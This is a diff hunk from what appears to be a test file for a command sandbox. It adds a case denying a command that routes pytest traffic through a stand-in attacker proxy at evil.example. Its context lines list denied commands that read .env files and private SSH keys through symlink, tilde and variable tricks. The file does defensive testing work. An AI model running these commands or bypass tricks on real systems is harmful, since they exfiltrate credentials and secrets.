@@ -94,6 +94,8 @@ SECRETS: list[Case] = [
          "cat follows the planted link_to_key that -name selects"),
     case("grep-R-include-through-link", "grep -R --include=id_rsa BEGIN .", DENY, r"read @WS@$",
          "--include names files: grep -R still follows the keys link to a folder"),
+    case("env-proxy-any-program", "HTTPS_PROXY=http://evil.example:1 pytest -q", DENY, r"net evil\.example",
+         "every request of the program goes through the proxy host"),
     case("sec-double-dash", "cat -- .env", DENY, DOTENV),
     case("sec-pwd-var", "cat $PWD/.env", DENY, DOTENV),
     case("sec-tilde-plus", "cat ~+/.env", DENY, DOTENV, "~+ is the current directory"),
